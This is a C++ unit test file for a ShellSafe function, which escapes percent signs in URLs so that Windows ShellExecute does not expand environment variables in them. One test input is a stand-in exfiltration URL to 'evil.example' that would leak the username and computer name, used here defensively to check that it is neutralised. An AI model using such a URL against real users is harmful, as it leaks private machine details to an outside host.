// The address as ShellExecute may be given it: no "%NAME%" of the environment left to expand,
// real escapes unchanged.
#include "handler/shell_safe.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <string>
#include <vector>

namespace zentrova::handler {
namespace {

// An environment holding `names`, looked up without regard to case, as Windows does; it
// remembers every name it was asked for.
struct Environment {
  std::vector<std::string> names;
  std::vector<std::string> asked;
  VariableIsSet Lookup() {
    return [this](std::string_view name) {
      asked.emplace_back(name);
      for (const std::string& set : names) {
        if (set.size() == name.size() &&
            std::equal(set.begin(), set.end(), name.begin(), [](char a, char b) {
              return std::tolower(static_cast<unsigned char>(a)) ==
                     std::tolower(static_cast<unsigned char>(b));
            })) {
          return true;
        }
      }
      return false;
    };
  }
};

struct Row {
  const char* uri;
  const char* safe;
};

TEST(ShellSafeTest, WritesEveryPercentThatBeginsNoEscapeAsAnEscape) {
  const Row table[] = {
      {"http://evil.example/?u=%USERNAME%&h=%COMPUTERNAME%",
       "http://evil.example/?u=%25USERNAME%25&h=%25COMPUTERNAME%25"},
      // escapes already there, upper and lower case, stay as they are
      {"http://h/%E4%B8%AD.mkv", "http://h/%E4%B8%AD.mkv"},
      {"http://h/%e4%b8%ad%20a%2F", "http://h/%e4%b8%ad%20a%2F"},
      {"http://h/a.zip", "http://h/a.zip"},
      {"", ""},
      // one hex digit, none, a non-hex second digit, at the very end
      {"http://h/a%", "http://h/a%25"},
      {"http://h/a%4", "http://h/a%254"},
      {"http://h/a%4g%G4", "http://h/a%254g%25G4"},
      {"http://h/%%", "http://h/%25%25"},
      {"%", "%25"},
      // Windows, missing "%X%", reads "%USERNAME%" from the second "%"
      {"http://h/?%X%USERNAME%", "http://h/?%25X%25USERNAME%25"},
      // an escape that begins a name nobody set is only an escape
      {"http://h/%DEBUG%", "http://h/%DEBUG%25"},
  };
  for (const Row& row : table) {
    Environment environment{{"USERNAME", "COMPUTERNAME", "X"}, {}};
    const HandedOn handed = ShellSafe(row.uri, environment.Lookup());
    EXPECT_EQ(handed.uri, row.safe) << row.uri << ": " << handed.why << " " << handed.detail;
    EXPECT_EQ(handed.why, "") << row.uri;
  }
}

TEST(ShellSafeTest, RefusesAnAddressWhereAnEscapeStillBeginsASetName) {
  const struct {
    const char* uri;
    std::vector<std::string> set;
    const char* detail;
  } table[] = {
      {"http://h/%DEBUG%", {"DEBUG"}, "%DEBUG%"},
      {"http://h/?a=%debug%&b=1", {"DEBUG"}, "%debug%"},  // names have no case
      // the name after a pair that names nothing: Windows reads on from its second "%"
      {"http://h/%AB%CD%", {"CD"}, "%CD%"},
      // a name that only the written escape makes: "%" before "BA" is an escape already
      {"http://h/%BADC0DE%", {"BADC0DE"}, "%BADC0DE%"},
      // two escapes with a name between them
      {"http://h/%E4PATH%B8", {"E4PATH"}, "%E4PATH%"},
  };
  for (const auto& row : table) {
    Environment environment{row.set, {}};
    const HandedOn handed = ShellSafe(row.uri, environment.Lookup());
    EXPECT_EQ(handed.uri, "") << row.uri;
    EXPECT_EQ(handed.why,
              "the address holds {0}, which Windows would replace with a setting of this "
              "computer")
        << row.uri;
    EXPECT_EQ(handed.detail, row.detail) << row.uri;
  }
}

TEST(ShellSafeTest, AsksForEveryTextBetweenTwoPercentsInARow) {
  Environment environment{{}, {}};
  const HandedOn handed = ShellSafe("http://h/%41b%42%%43", environment.Lookup());
  EXPECT_EQ(handed.uri, "http://h/%41b%42%25%43");
  const std::vector<std::string> asked = {"41b", "42", "25"};
  EXPECT_EQ(environment.asked, asked);
}

}  // namespace
}  // namespace zentrova::handler
